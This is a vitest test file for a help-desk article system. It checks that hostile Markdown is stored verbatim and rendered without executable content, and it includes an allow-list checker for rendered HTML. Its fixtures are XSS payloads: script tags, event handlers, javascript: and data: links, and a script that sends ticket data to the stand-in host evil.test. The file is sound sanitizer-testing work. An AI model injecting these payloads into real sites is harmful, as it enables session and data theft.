import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DbHandle } from '@/db/client';
import type { Actor } from '@/lib/auth/actor';
import { makeStaff, must, testDb } from '@/lib/testing/fixtures';
import { createArticle } from './create-article';
import { getArticleForReader } from './get-article';
import { previewArticle } from './preview-article';
import { publishArticle } from './publish-article';

/** Markdown a hostile (or careless) editor might write: stored as written, rendered inert. */
const HOSTILE: [string, string][] = [
  ['script tag', 'Hello <script>alert(1)</script> world'],
  [
    'script in a block',
    '<script>\nfetch("/api/v1/tickets").then(r => r.text()).then(t => new Image().src = "//evil.test/?" + t)\n</script>',
  ],
  ['image onerror', '<img src=x onerror="alert(1)">'],
  ['markdown image with a javascript: source', '![x](javascript:alert(1))'],
  ['javascript: link', '[click me](javascript:alert(document.cookie))'],
  ['encoded javascript: link', '[click](jav&#x61;script:alert(1))'],
  ['javascript: link with spaces and case', '[x]( JaVaScRiPt:alert(1) )'],
  ['data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['raw iframe', '<iframe src="https://evil.test"></iframe>'],
  ['style and onclick', '<p style="position:fixed;top:0" onclick="alert(1)">cover</p>'],
  ['svg onload', '<svg onload=alert(1)><circle r=40 /></svg>'],
  ['form and input', '<form action="https://evil.test"><input name=password></form>'],
  ['object/embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">'],
  ['link autolink javascript', '<javascript:alert(1)>'],
  ['html comment trick', '<!-- --><script>alert(1)</script><!-- -->'],
  ['attribute breakout in a link title', '[x](https://ok.test "a\\" onmouseover=\\"alert(1)")'],
  ['unclosed tag', '<img src="https://ok.test/a.png" onerror=alert(1)'],
  ['base tag', '<base href="https://evil.test/">'],
];

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code ul ol li strong em del s a img table thead tbody tr th td'.split(' '),
);
const SAFE_URL = /^(https?:|mailto:|tel:|\/(?!\/)|#|[^:/?#]+(?:[/?#]|$))/i;

/**
 * What the rendered HTML may contain, read structurally: every real tag (text is escaped, so a
 * literal "<" in text is "&lt;") is on the allow-list, has no event handler or style, and every
 * href/src is http(s), mailto, tel or relative.
 */
function unsafeParts(html: string): string[] {
  const found: string[] = [];
  for (const [, name = '', attrs = ''] of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    if (!ALLOWED_TAGS.has(name.toLowerCase())) found.push(`tag ${name}`);
    for (const [, attr = '', value = ''] of attrs.matchAll(/([^\s=/]+)(?:="([^"]*)")?/g)) {
      if (/^on/i.test(attr) || attr.toLowerCase() === 'style') found.push(`attribute ${attr}`);
      if (/^(href|src)$/i.test(attr)) {
        const url = value.replace(/&#x?[0-9a-f]+;?|&[a-z]+;/gi, '').trim();
        if (!SAFE_URL.test(url)) found.push(`${attr}=${value}`);
      }
    }
  }
  return found;
}

let handle: DbHandle;
let agent: Actor;
beforeAll(async () => {
  handle = testDb();
  agent = await makeStaff(handle.db, 'agent');
});
afterAll(() => handle.close());

describe('hostile Markdown in articles', () => {
  it('the check itself sees what would run', () => {
    expect(unsafeParts('<img src="x" onerror="alert(1)">')).toEqual(['attribute onerror']);
    expect(unsafeParts('<a href="javascript:alert(1)">x</a>')).toEqual(['href=javascript:alert(1)']);
    expect(unsafeParts('<script>x</script><p style="a">')).toEqual(['tag script', 'tag script', 'attribute style']);
    expect(unsafeParts('<p>&lt;script&gt; onerror=1</p><a href="/help">ok</a>')).toEqual([]);
  });

  it.each(HOSTILE)('%s: stored as written, rendered without anything that runs', async (_name, body) => {
    const created = must(await createArticle(handle.db, agent, { title: `Hostile ${Math.random()}`, body }));
    expect(created.body).toBe(body);
    const article = must(await publishArticle(handle.db, agent, { id: created.id, version: 1 }));
    const read = await getArticleForReader(handle.db, null, article.slug);
    const preview = previewArticle(agent, { body });
    expect(preview.ok).toBe(true);
    for (const html of [read?.html ?? '', preview.ok ? preview.data.html : ''])
      expect(unsafeParts(html), html).toEqual([]);
  });

  it('keeps ordinary Markdown and safe links working', async () => {
    const body =
      '## Steps\n\n1. Go to [Sign in](/signin)\n2. See [our status page](https://status.example.com)\n\n`code` and **bold**\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    const preview = previewArticle(agent, { body });
    if (!preview.ok) throw new Error('preview failed');
    expect(preview.data.html).toContain('<h2>Steps</h2>');
    expect(preview.data.html).toContain('<a href="/signin">Sign in</a>');
    expect(preview.data.html).toMatch(
      /<a href="https:\/\/status\.example\.com" target="_blank" rel="noopener noreferrer nofollow">/,
    );
    expect(preview.data.html).toContain('<table>');
    expect(preview.data.html).toContain('<strong>bold</strong>');
  });

  it('refuses a NUL byte with a field message and stores nothing; the preview says so too', async () => {
    const title = `NUL ${Math.random()}`;
    expect(await createArticle(handle.db, agent, { title, body: 'before\u0000after' })).toMatchObject({
      ok: false,
      code: 'invalid',
      fieldErrors: { body: [expect.stringMatching(/invalid characters/)] },
    });
    expect(previewArticle(agent, { body: 'a\u0000b' })).toMatchObject({
      ok: false,
      fieldErrors: { body: [expect.any(String)] },
    });
    expect(previewArticle(agent, { body: '\ud800 lone surrogate' })).toMatchObject({ ok: false });
  });
});
